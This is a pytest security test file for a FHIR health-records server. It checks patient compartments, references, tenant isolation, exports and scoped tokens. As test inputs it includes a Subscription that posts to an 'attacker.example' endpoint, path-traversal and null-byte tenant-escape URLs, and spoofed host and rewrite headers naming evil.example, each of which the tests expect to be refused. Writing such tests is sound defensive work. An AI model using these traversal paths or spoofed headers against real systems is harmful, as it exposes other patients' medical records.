"""Contents, compartments, types, tenants and scopes: N08 to N13."""

from __future__ import annotations

import re
import uuid
from typing import Any

import pytest

from conformance.r4 import facts
from conformance.structures import STORABLE
from fhir_server.interactions.table import TABLE
from tests.fhir import Client
from tests.http.binaries import FHIR, sent
from tests.http.parameters import parameter, searchable
from tests.security.principals import SHARED
from tests.security.raw import asked
from tests.security.records import WORD, Pair, alike, pair, put, ref, result, whole
from tests.security.specimens import specimen


def document(name: str, patient: str, binary: str) -> dict[str, Any]:
    made = {"resourceType": "DocumentReference", "id": name, "status": "current", "subject": ref(f"Patient/{patient}")}
    return made | {"content": [{"attachment": {"url": binary.lstrip("/")}}]}


async def test_n08_a_document_is_read_by_whom_its_context_allows_and_by_no_other(fhir: Client, other: Client) -> None:
    mine = await pair(fhir)
    secret = await sent(fhir, WORD.encode(), "text/plain", **{"X-Security-Context": "Patient/theirs"})
    loose = await sent(fhir, WORD.encode(), "text/plain")
    own = await sent(fhir, b"mine", "text/plain", **{"X-Security-Context": "Patient/mine"})
    # An own document that points at another's content opens it to nobody.
    await put(fhir, document("thief", "mine", secret), document("theirs", "theirs", secret))
    assert (await mine.get(own)).text == "mine"
    for place in (secret, loose):
        for path in (place, f"{place}/_history/1", f"{place}/_history"):
            for headers in ({}, FHIR, {"range": "bytes=0-3"}):
                answer = await mine.get(path, headers=headers)
                assert answer.status_code == 404, (path, answer.text)
                assert WORD not in whole(answer)
        assert (await other.get(place)).status_code == 404
    assert (await mine.found("/Binary")) == [own.lstrip("/")]
    assert (await mine.found("/DocumentReference?_include=*")) == ["DocumentReference/thief", "Patient/mine"]


async def test_n09_a_focus_or_another_reference_gives_no_access(fhir: Client) -> None:
    mine = await pair(fhir)
    await put(fhir, result("about-me", "theirs", focus=[ref("Patient/mine")], valueString=WORD))
    named = {"base": ["Observation"], "type": "reference", "target": ["Patient"], "expression": "Observation.focus"}
    await searchable(fhir, parameter("own-focus", **named))
    for query in ("/Observation", "/Observation?focus=Patient/mine", "/Observation?own-focus=Patient/mine"):
        assert "Observation/about-me" not in await mine.found(query)
    assert "Observation/about-me" not in await mine.found("/Patient/mine/Observation")
    assert (await fhir.get("/Observation?own-focus=Patient/mine&_total=accurate")).json()["total"] == 1
    alike(await mine.get("/Observation/about-me"), await mine.get("/Observation/absent"), "about-me", "absent")
    # Two records of one person that are linked stay two: a link is a statement, not a permission.
    await put(
        fhir, {"resourceType": "Patient", "id": "mine", "link": [{"other": ref("Patient/theirs"), "type": "refer"}]}
    )
    assert (await mine.get("/Patient/theirs")).status_code == 404
    assert await mine.found("/Patient?_include=Patient:link") == ["Patient/mine"]


async def test_n10_no_type_forgets_whose_a_resource_is(fhir: Client) -> None:
    """OpenEMR's CVE-2026-24487: one type forgot the compartment. Here every type is asked for."""
    mine = await pair(fhir)
    registry = fhir.concord.service.registry
    for kind in sorted(set(STORABLE) - SHARED - {"Patient"}):
        made = specimen(registry, kind, "theirs", WORD, "mark") | {"id": "x"}
        answer = await fhir.put(f"/{kind}/x", json=made)
        if answer.status_code == 405 and kind == "AuditEvent":
            continue
        assert answer.status_code == 201, (kind, answer.text)
        assert (await mine.get(f"/{kind}/x")).status_code in (403, 404), kind
        found = await mine.get(f"/{kind}?_total=accurate")
        assert found.status_code in (200, 403), kind
        assert found.status_code == 403 or f"{kind}/x" not in found.text, kind
        assert WORD not in whole(found), kind
    named = {"Device", "Group", "List", "CareTeam", "Provenance", "AuditEvent", "QuestionnaireResponse"}
    assert named <= set(STORABLE)


async def test_n11_subscriptions_and_exports_are_offered_to_nobody_yet(fhir: Client) -> None:
    mine = await pair(fhir)
    assert [row.shape for row in TABLE if {"$export", "$import", "$events", "$status"} & set(row.shape)] == []
    for path in (
        "/$export",
        "/Patient/$export",
        "/Group/x/$export",
        "/Subscription/x/$events",
        "/Subscription/x/$status",
    ):
        for client in (mine.get, fhir.get):
            assert (await client(path, headers={"prefer": "respond-async"})).status_code in (400, 404, 405), path
    # A Subscription is stored like any resource, and never told a patient's token of.
    asks = {"resourceType": "Subscription", "status": "requested", "reason": "x", "criteria": "Observation?"}
    asks |= {"channel": {"type": "rest-hook", "endpoint": "https://attacker.example/"}}
    assert (await mine.send("POST", "/Subscription", json=asks)).status_code in (400, 403, 422)


async def test_n12_no_address_takes_one_tenant_for_another(fhir: Client, other: Client) -> None:
    mine = await pair(fhir)
    await put(other, {"resourceType": "Patient", "id": "mine", "name": [{"family": WORD}]})
    wide = await fhir.token("system/*.cruds")
    places = [
        f"/{other.tenant}/fhir/Patient/mine",
        f"/{fhir.tenant}/fhir/%2e%2e/%2e%2e/{other.tenant}/fhir/Patient/mine",
        f"/{fhir.tenant}/fhir/../../{other.tenant}/fhir/Patient/mine",
        f"/{fhir.tenant}/../{other.tenant}/fhir/Patient/mine",
        f"//{other.tenant}/fhir/Patient/mine",
        f"/{other.tenant}//fhir/Patient/mine",
        f"/{other.tenant.upper()}/fhir/Patient/mine",
        f"/{other.tenant}%00/fhir/Patient/mine",
        f"/{other.tenant}%2ffhir/Patient/mine",
        f"/{fhir.tenant}%2f..%2f{other.tenant}/fhir/Patient/mine",
        f"/{fhir.tenant};{other.tenant}/fhir/Patient/mine",
    ]
    spoofed = {"host": "evil.example", "x-forwarded-host": "evil.example", "x-tenant": other.tenant}
    spoofed |= {"x-original-url": places[0], "x-rewrite-url": places[0], "x-forwarded-prefix": f"/{other.tenant}"}
    for token in (wide, mine.token):
        for place in places:
            for headers in ({}, spoofed):
                answer = await asked(fhir, "GET", place, {"authorization": f"Bearer {token}", **headers})
                assert 400 <= answer[0] < 500, (place, answer)
                assert not {WORD, "evil"} & set(re.findall(r"\w+", answer[1])), place
    answer = await fhir.get("/Patient/mine", token=wide, headers=spoofed)
    assert answer.status_code == 200
    assert WORD not in whole(answer)
    assert "evil" not in whole(answer)
    assert answer.headers["cache-control"] == "private, no-cache"


@pytest.mark.parametrize(
    "scope",
    [
        "patient/Observation.rs?category=a",
        "patient/Observation.rs?category=a&code=b",
        "patient/Observation.rs?category=a|b,c%26d",
        "patient/Observation.rs?",
        "patient/Observation.rs?nothing=a",
        "patient/Observation.rs?subject.name=a",
        "patient/Observation.rs?_include=*",
        "patient/Observation.rs?category=",
    ],
)
async def test_n13_a_narrowed_scope_is_never_wider_than_it_says(fhir: Client, scope: str) -> None:
    mine = await pair(fhir)
    await put(fhir, result(f"own-{uuid.uuid4().hex[:8]}", "mine"))
    narrow = Pair(fhir, await fhir.token(scope, patient="mine"))
    for query in (
        "/Observation",
        "/Observation?category:not=a",
        "/Observation?_id=my-result",
        "/Observation?_sort=code",
    ):
        answer = await narrow.get(query)
        assert answer.status_code in (200, 403), answer.text
        assert "my-result" not in answer.text.replace("_id=my-result", "")
    assert (await narrow.get("/Observation/my-result")).status_code in (403, 404)
    assert (await narrow.get("/Patient/mine")).status_code == 403
    assert (await mine.get("/Observation/my-result")).status_code == 200


def test_n10_every_member_of_the_patient_compartment_has_a_way_into_it() -> None:
    members = facts.compartments()["Patient"]
    assert set(members) <= set(STORABLE)
    assert all(members.values())
